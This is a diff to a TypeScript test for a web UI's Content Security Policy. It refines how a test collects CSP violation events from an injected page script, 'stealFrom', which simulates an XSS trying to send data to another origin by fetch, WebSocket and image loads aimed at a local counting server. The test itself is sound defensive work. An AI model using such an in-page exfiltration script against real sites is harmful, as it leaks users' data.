@@ -14,11 +14,12 @@ import { launchChromium } from './chromium.js';
  * A script that runs in the web UI's page (an XSS, a hostile dependency) and tries to send
  * what it can read to another origin: the page's policy must stop every request before it
  * leaves the browser. The other origin is a real server that counts what reaches it.
+ * It is text (the node-side tsconfig has no DOM types); it answers what it could reach, and
+ * keeps the directives that stopped it in `window.violations` as the events come.
  */
-/** The script, run in the page (the node-side tsconfig has no DOM types, so it is text): what it could reach, and the directives that stopped it. */
 const stealFrom = (target: string) => `(async () => {
-  const violations = [];
-  document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
+  window.violations = [];
+  document.addEventListener('securitypolicyviolation', (e) => window.violations.push(e.effectiveDirective));
   const opens = (url) => new Promise((resolve) => {
     const ws = new WebSocket(url);
     ws.onopen = () => resolve(true);
@@ -33,8 +34,7 @@ const stealFrom = (target: string) => `(async () => {
     image.onload = image.onerror = () => resolve();
     image.src = 'http://${target}/image';
   });
-  await new Promise((resolve) => setTimeout(resolve, 200));
-  return { own, fetched, foreignSocket, violations: [...new Set(violations)].sort() };
+  return { own, fetched, foreignSocket };
 })()`;
 
 describe('web UI page under attack, in Chromium', () => {
@@ -78,7 +78,8 @@ describe('web UI page under attack, in Chromium', () => {
     await page.goto(server.url);
     const other = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
     const outcome = await page.evaluate(stealFrom(other));
-    expect(outcome).toEqual({ own: true, fetched: false, foreignSocket: false, violations: ['connect-src', 'img-src'] });
+    expect(outcome).toEqual({ own: true, fetched: false, foreignSocket: false });
+    await expect.poll(() => page.evaluate('[...new Set(window.violations)].sort()')).toEqual(['connect-src', 'img-src']);
     expect(reached).toEqual([]);
     await page.close();
   });
